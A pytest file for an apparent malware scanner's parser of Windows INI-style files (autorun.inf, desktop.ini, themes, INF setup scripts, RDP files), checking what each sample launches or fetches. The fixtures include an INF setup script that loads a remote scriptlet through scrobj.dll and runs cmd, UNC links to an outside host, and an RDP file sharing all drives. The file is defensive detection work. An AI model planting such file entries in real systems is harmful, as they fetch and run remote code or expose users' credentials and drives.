"""Small files in sections that make Windows start or fetch something."""

from __future__ import annotations

import pytest

from emoscan.budget import Budget, Limits
from emoscan.context import Context
from emoscan.formats.inifiles import read_sections
from emoscan.model import Artifact, Fact


def facts(text: str) -> list[tuple[str, str, str]]:
    found = read_sections(Artifact("text.plain", text.encode()), Context(Budget(Limits())))
    return [(fact.kind, fact.value, fact.how) for fact in found if isinstance(fact, Fact)]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example.test\\a\\i.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
         [("link.external", "\\\\files.example.test\\a\\i.ico", "iconfile of [shell]")]),
        ("[autorun]\nopen=setup.exe /x\nicon=setup.ico\n", [("effect.run", "setup.exe /x", "open of [autorun]")]),
        ("; a\n[Theme]\nDisplayName=x\n[Control Panel\\Desktop]\nWallpaper=\\\\files.example.test\\a.jpg\nSCRNSAVE.EXE=%SystemRoot%\\a.scr\n",
         [("link.external", "\\\\files.example.test\\a.jpg", "wallpaper of [control panel\\desktop]"),
          ("effect.run", "%SystemRoot%\\a.scr", "scrnsave.exe of [control panel\\desktop]")]),
        (("[Version]\nSignature=$CHICAGO$\n[DefaultInstall]\nUnRegisterOCXs=U\nRunPreSetupCommands=C\n[U]\n%11%\\scrobj.dll,NI,http://files.example.test/a.sct\n"
         "[C]\ncmd /c set a=b\n"),
         [("effect.download", "http://files.example.test/a.sct", "scriptlet of a setup script"),
          ("effect.load", "http://files.example.test/a.sct", "scriptlet of a setup script"),
          ("effect.run", "cmd /c set a=b", "commands of a setup script")]),
        ("full address:s:rdp.example.test\r\ndrivestoredirect:s:*\r\n", [("link.external", "rdp.example.test", "remote desktop")]),
        ("Dear all,\n\n[version] 2 of the theme is here.\n", []),
        ("[Settings]\nopen=a.exe\n", []),
    ],
)  # fmt: skip
def test_what_a_file_starts_and_fetches(text, found):
    assert facts(text) == found


def test_a_desktop_connection_says_which_drives_it_opens():
    data = b"full address:s:rdp.example.test\r\ndrivestoredirect:s:*\r\n"
    found = list(read_sections(Artifact("text.plain", data), Context(Budget(Limits()))))
    assert [fact.detail for fact in found if isinstance(fact, Fact)] == [{"drives": "*"}]
